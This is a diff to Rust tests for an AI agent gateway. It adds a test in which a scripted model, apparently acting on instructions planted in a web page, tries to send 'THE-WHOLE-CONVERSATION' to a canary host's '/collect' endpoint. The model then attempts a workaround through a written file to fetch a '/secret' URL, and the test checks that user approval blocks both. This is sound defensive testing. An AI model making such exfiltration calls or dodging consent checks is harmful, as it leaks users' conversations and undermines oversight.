@@ -34,12 +34,13 @@ impl Desk {
 
     /// One call of a tool by an agent: what the model hears, and the run with its answer's headers.
     async fn call(&self, tool: &str, arguments: Value) -> (String, Answer) {
+        let asked = format!("Go {}", arguments["url"].as_str().unwrap_or_default());
         let replies = vec![Reply::calls(&[(tool, arguments)]), Reply::text("Done.")];
         let upstream = ScriptedServer::start(Behaviour::sequence(replies)).await.unwrap();
         let name = format!("Up{}", upstream.address().port());
         connect(&self.server, &self.ada, &name, &upstream.base_url()).await;
         let answer =
-            self.server.post("/v1/chat/completions", &self.ada, &ask("glasshouse/agent", "Go")).await;
+            self.server.post("/v1/chat/completions", &self.ada, &ask("glasshouse/agent", &asked)).await;
         answer.expect(200);
         let all = upstream.requests();
         let heard = all.last().unwrap()["messages"].as_array().unwrap().last().unwrap()["content"].clone();
@@ -128,7 +129,7 @@ async fn who_may_read_the_chat_may_read_what_it_cites() {
         .as_str()
         .unwrap()
         .to_owned();
-    let sent = json!({"content": "Go", "model": "scripted"});
+    let sent = json!({"content": format!("Read {url}."), "model": "scripted"});
     let sent = desk.server.post(&format!("/api/v1/chats/{chat}/messages"), &desk.ada, &sent).await;
     let run = sent.json()["run"].as_str().unwrap_or_else(|| panic!("{}", sent.text)).to_owned();
     let log = events(&desk.server, &desk.ada, &format!("/runs/{run}/events")).await.rest().await;
@@ -214,6 +215,46 @@ async fn planted_instructions_reach_nobody() {
     assert!(desk.web.canary_visits().is_empty());
 }
 
+/// A model that does all that a page says: first as it stands there, then with what it knows, then by a way round.
+#[tokio::test]
+async fn an_address_that_nobody_named_is_opened_with_consent_only() {
+    let desk = Desk::open(&[]).await;
+    let fact = desk.web.facts().iter().find(|fact| fact.kind == scripted::web::FactKind::Planted).unwrap();
+    let (url, canary) = (desk.web.url(&fact.pages[0]), desk.web.canary());
+    let fetch = |url: String| Reply::calls(&[("fetch_page", json!({ "url": url }))]);
+    let replies = vec![
+        fetch(url.clone()),
+        fetch(format!("{canary}/collect?data=THE-WHOLE-CONVERSATION")),
+        Reply::calls(&[("write_file", json!({"path": "/a.txt", "content": format!("{canary}/secret")}))]),
+        Reply::calls(&[("read_file", json!({"path": "/a.txt"}))]),
+        fetch(format!("{canary}/secret")),
+        fetch(format!("{canary}/agreed")),
+        fetch(format!("{canary}/agreed#again")),
+        Reply::text("Done."),
+    ];
+    let upstream = ScriptedServer::start(Behaviour::sequence(replies)).await.unwrap();
+    connect(&desk.server, &desk.ada, "Up", &upstream.base_url()).await;
+    let chat = desk.server.post("/api/v1/chats", &desk.ada, &json!({})).await.json();
+    let path = format!("/api/v1/chats/{}/messages", chat["id"].as_str().unwrap());
+    let said = json!({"content": format!("What does the lighthouse cost, says {url}?"), "model": "scripted"});
+    let sent = desk.server.post(&path, &desk.ada, &said).await;
+    let run = sent.json()["run"].as_str().unwrap_or_else(|| panic!("{}", sent.text)).to_owned();
+    let mut log = events(&desk.server, &desk.ada, &format!("/runs/{run}/events")).await;
+    for (end, decision) in [("THE-WHOLE-CONVERSATION", "deny"), ("/secret", "deny"), ("/agreed", "allow")] {
+        let asked = log.until(|event| event["body"]["type"] == "approval_asked").await;
+        assert!(asked["body"]["arguments"]["url"].as_str().unwrap().ends_with(end), "{asked}");
+        assert!(desk.web.canary_visits().is_empty());
+        let path = format!("/runs/{run}/approvals/{}", asked["body"]["approval"].as_str().unwrap());
+        desk.server.post(&path, &desk.ada, &json!({"decision": decision})).await.expect(204);
+    }
+    let rest = log.rest().await;
+    assert!(rest.iter().all(|event| event.json()["body"]["type"] != "approval_asked"), "it was agreed to");
+    assert!(
+        !desk.web.canary_visits().is_empty()
+            && desk.web.canary_visits().iter().all(|to| !to.contains("secret"))
+    );
+}
+
 #[tokio::test]
 async fn the_web_can_be_taken_away() {
     let tools = async |settings: &[(&str, &str)], metadata: Value| {
@@ -249,7 +290,9 @@ async fn a_host_is_asked_one_at_a_time_with_a_pause() {
             .await
             .unwrap();
     connect(&desk.server, &desk.ada, "Up", &upstream.base_url()).await;
-    desk.server.post("/v1/chat/completions", &desk.ada, &ask("glasshouse/agent", "Go")).await.expect(200);
+    let urls: Vec<&str> = calls.iter().map(|(_, call)| call["url"].as_str().unwrap()).collect();
+    let asked = format!("Read {}.", urls.join(", "));
+    desk.server.post("/v1/chat/completions", &desk.ada, &ask("glasshouse/agent", &asked)).await.expect(200);
     let visits = desk.web.visits();
     let times: Vec<_> =
         visits.iter().filter(|visit| visit.target.starts_with("/towns/")).map(|visit| visit.at).collect();
